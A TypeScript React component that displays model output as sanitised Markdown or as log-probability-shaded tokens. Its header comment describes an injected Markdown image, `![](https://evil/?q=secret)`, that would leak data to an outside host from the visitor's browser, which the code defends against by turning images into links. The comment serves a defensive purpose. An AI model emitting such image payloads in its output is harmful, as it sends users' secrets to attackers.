"use client";
/**
 * Model output, rendered as Markdown (react-markdown without raw HTML: model output is untrusted
 * text, any tag in it shows as text) or token by token with log-probabilities. Images are never
 * loaded: an injected `![](https://evil/?q=secret)` would fetch that URL from the visitor's
 * browser without a click, so an image shows as a link to its address instead.
 */
import { memo } from "react";
import ReactMarkdown, { type Components } from "react-markdown";
import type { TokenView } from "./run-state";

const components: Components = {
  img: ({ src, alt }) => {
    const href = typeof src === "string" ? src : "";
    return (
      <a href={href || undefined} rel="noopener noreferrer nofollow" target="_blank" data-testid="md-image-link" className="underline">
        [image{alt ? `: ${alt}` : ""}] {href}
      </a>
    );
  },
};

const Markdown = memo(function Markdown({ text }: { text: string }) {
  return (
    <div className="prose prose-sm max-w-none break-words dark:prose-invert [&_code]:rounded [&_code]:bg-zinc-100 [&_code]:px-1 dark:[&_code]:bg-zinc-800 [&_pre]:overflow-x-auto [&_pre]:rounded [&_pre]:bg-zinc-100 [&_pre]:p-2 dark:[&_pre]:bg-zinc-800">
      <ReactMarkdown skipHtml components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
});

/** probability → background: confident tokens pale, unlikely ones warm */
function shade(logprob: number | null): string {
  if (logprob === null) return "transparent";
  const p = Math.exp(logprob);
  return `hsla(${Math.round(p * 120)}, 80%, 50%, ${0.12 + 0.3 * (1 - p)})`;
}

function Tokens({ tokens }: { tokens: TokenView[] }) {
  return (
    <div className="whitespace-pre-wrap break-words font-mono text-sm leading-6" data-testid="token-view">
      {tokens.map((t, i) => {
        const alts = t.alternatives?.map((a) => `${JSON.stringify(a.text)} ${a.logprob.toFixed(3)}`).join("\n");
        const title = `${JSON.stringify(t.text)}  logprob ${t.logprob === null ? "n/a" : t.logprob.toFixed(3)}${t.special ? " (special)" : ""}${alts ? `\nalternatives:\n${alts}` : ""}`;
        return (
          <span
            key={i}
            data-testid="token"
            data-logprob={t.logprob ?? ""}
            title={title}
            style={{ background: shade(t.logprob) }}
            className={`rounded-sm outline-1 outline-zinc-300 hover:outline ${t.special ? "text-zinc-400 italic" : ""}`}
          >
            {t.text === "" ? "\u200b" : t.text}
          </span>
        );
      })}
    </div>
  );
}

export function StreamView({ text, tokens, showTokens, streaming }: { text: string; tokens: TokenView[]; showTokens: boolean; streaming: boolean }) {
  return (
    <div data-testid="stream-output" aria-live="polite" aria-busy={streaming}>
      {showTokens ? <Tokens tokens={tokens} /> : <Markdown text={text} />}
      {streaming && <span className="ml-0.5 inline-block h-4 w-2 animate-pulse bg-zinc-400 align-middle" aria-hidden />}
      {/* the exact streamed text, for copy and for tests */}
      <pre data-testid="raw-output" hidden>
        {text}
      </pre>
    </div>
  );
}
